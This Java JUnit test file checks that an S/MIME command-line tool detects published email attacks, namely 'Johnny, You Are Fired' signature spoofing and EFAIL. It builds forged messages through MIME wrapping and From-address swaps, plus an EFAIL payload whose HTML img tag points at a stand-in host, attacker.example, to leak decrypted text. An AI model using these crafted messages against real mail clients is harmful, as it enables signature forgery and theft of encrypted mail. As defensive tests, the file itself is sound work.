package dev.signet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * The published attack classes as a person meets them on the command line: "Johnny, You Are
 * Fired" (2019) CMS, MIME wrapping and ID classes, EFAIL (2018) direct exfiltration and CBC
 * gadgets. Each ends with the exit code of its verdict.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SpoofingAttacksCliTest {
  private final CliRun signet = CliRun.withPassword();
  private Path dir;
  private Fixtures.Person manager;
  private Fixtures.Person johnny;
  private String promoted;

  @BeforeAll
  void theManagerSignsAPromotion(@TempDir Path tmp) throws IOException {
    dir = tmp;
    manager = Fixtures.person(dir, "manager@example.org", "Manager");
    johnny = Fixtures.person(dir, "johnny@example.org", "Johnny");
    Path plain = write("plain.eml", new String(Fixtures.message("manager@example.org", "johnny@example.org",
        "News", "You are promoted!\r\n"), StandardCharsets.UTF_8));
    Path signed = dir.resolve("signed.eml");
    assertThat(signet.run("sign", "--id", manager.p12().toString(), "--in", plain.toString(), "--out",
        signed.toString()).exitCode()).isZero();
    promoted = Files.readString(signed, StandardCharsets.ISO_8859_1);
  }

  private Path write(String name, String text) throws IOException {
    return Files.writeString(dir.resolve(name), text, StandardCharsets.ISO_8859_1);
  }

  private static String body(String message) {
    return message.substring(message.indexOf("\r\n\r\n") + 4);
  }

  private static String contentHeaders(String message) {
    String head = message.substring(0, message.indexOf("\r\n\r\n") + 2);
    return head.substring(head.indexOf("Content-Type:"));
  }

  private static String mixed(String first, String second) {
    return "From: manager@example.org\r\nTo: johnny@example.org\r\nMIME-Version: 1.0\r\n"
        + "Content-Type: multipart/mixed; boundary=\"WRAP\"\r\n\r\n--WRAP\r\n" + first + "\r\n--WRAP\r\n" + second
        + "\r\n--WRAP--\r\n";
  }

  private int verify(String message) throws IOException {
    Path in = write("verify.eml", message);
    return signet.run("verify", "--trust", manager.certificatePem().toString(), "--in", in.toString()).exitCode();
  }

  @Test
  void theGenuineSignedMessageExitsZero() throws IOException {
    assertThat(verify(promoted)).isZero();
  }

  @Test
  void johnnyCmsClassASignaturePartThatIsNoSignedDataExitsOneAsMalformed() throws IOException {
    String truncated = promoted.replaceFirst("(?s)(filename=\"smime.p7s\"\r\n\r\n).*?(\r\n--)",
        "$1MAsGCSqGSIb3DQEHAg==$2");
    assertThat(verify(truncated)).isEqualTo(1);
  }

  @Test
  void johnnyMimeWrappingClassUnsignedTextBesideTheSignedPartExitsOne() throws IOException {
    String wrapped = mixed("Content-Type: text/plain\r\n\r\nJohnny, you are fired!",
        contentHeaders(promoted) + "\r\n" + body(promoted));
    assertThat(verify(wrapped)).isEqualTo(1);
  }

  @Test
  void johnnyIdClassAnotherFromAddressExitsThreeAsAWarning() throws IOException {
    String spoofed = promoted.replace("From: manager@example.org", "From: \"manager@example.org\" <ceo@example.org>");
    assertThat(verify(spoofed)).isEqualTo(3);
  }

  @Test
  void efailDirectExfiltrationIsPartiallyEncryptedExitsOneAndWritesNothing() throws IOException {
    Path plain = write("secret.eml", new String(Fixtures.message("manager@example.org", "johnny@example.org",
        "Secret", "the launch code is 0000\r\n"), StandardCharsets.UTF_8));
    Path encrypted = dir.resolve("secret.p7m.eml");
    signet.run("encrypt", "--to", johnny.certificatePem().toString(), "--in", plain.toString(), "--out",
        encrypted.toString());
    String captured = Files.readString(encrypted, StandardCharsets.ISO_8859_1);
    Path attack = write("efail.eml", mixed("Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/",
        contentHeaders(captured) + "\r\n" + body(captured) + "\r\n--WRAP\r\nContent-Type: text/html\r\n\r\n\">"));
    Path out = dir.resolve("efail-out.eml");
    CliRun.Result r = signet.run("read", "--id", johnny.p12().toString(), "--in", attack.toString(), "--out",
        out.toString());
    assertThat(r.exitCode()).as(r.toString()).isEqualTo(1);
    assertThat(r.stderr()).contains("PARTIALLY_ENCRYPTED");
    assertThat(out).doesNotExist();
  }

  @Test
  void efailCbcGadgetClassUnsignedCbcExitsThreeAsUnauthenticated() throws IOException {
    Path plain = write("cbc.eml", new String(Fixtures.message("manager@example.org", "johnny@example.org",
        "CBC", "hello\r\n"), StandardCharsets.UTF_8));
    Path encrypted = dir.resolve("cbc.p7m.eml");
    signet.run("encrypt", "--to", johnny.certificatePem().toString(), "--cipher", "aes128-cbc", "--in",
        plain.toString(), "--out", encrypted.toString());
    CliRun.Result r = signet.run("read", "--id", johnny.p12().toString(), "--in", encrypted.toString());
    assertThat(r.stderr()).contains("UNAUTHENTICATED_ENCRYPTION");
    assertThat(r.exitCode()).as(r.toString()).isEqualTo(3);
  }
}
